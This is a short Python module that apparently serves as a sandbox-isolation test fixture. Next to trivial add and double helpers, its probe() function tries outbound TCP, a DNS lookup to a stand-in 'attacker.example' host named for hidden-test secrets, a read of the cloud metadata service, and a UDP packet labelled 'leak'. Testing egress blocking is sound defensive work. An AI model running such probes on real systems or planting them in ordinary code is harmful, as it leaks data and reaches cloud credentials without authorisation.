"""A7 (and C2, C8): probe() tries to reach the outside: TCP, DNS, the metadata service."""

import os
import socket
import urllib.request


def add(a, b):
    return a + b


def double(n):
    return 2 * n


def _connect(host, port):
    try:
        socket.create_connection((host, port), timeout=1).close()
    except OSError as exc:
        return type(exc).__name__
    return "connected"


def _dns(name):
    try:
        socket.getaddrinfo(name, 80)
    except OSError as exc:
        return type(exc).__name__
    return "resolved"


def _http(url):
    try:
        urllib.request.urlopen(url, timeout=1).read(100)
    except OSError as exc:
        return type(exc).__name__
    return "answered"


def probe():
    return {
        "interfaces": sorted(os.listdir("/sys/class/net")),
        "tcp": _connect("93.184.216.34", 80),
        "tcp6": _connect("2606:2800:220:1:248:1893:25c8:1946", 443),
        "dns": _dns("secrets-of-the-hidden-tests.attacker.example"),
        "metadata": _http("http://169.254.169.254/latest/meta-data/"),
        "udp": _udp(),
    }


def _udp():
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"leak", ("8.8.8.8", 53))
    except OSError as exc:
        return type(exc).__name__
    return "sent"
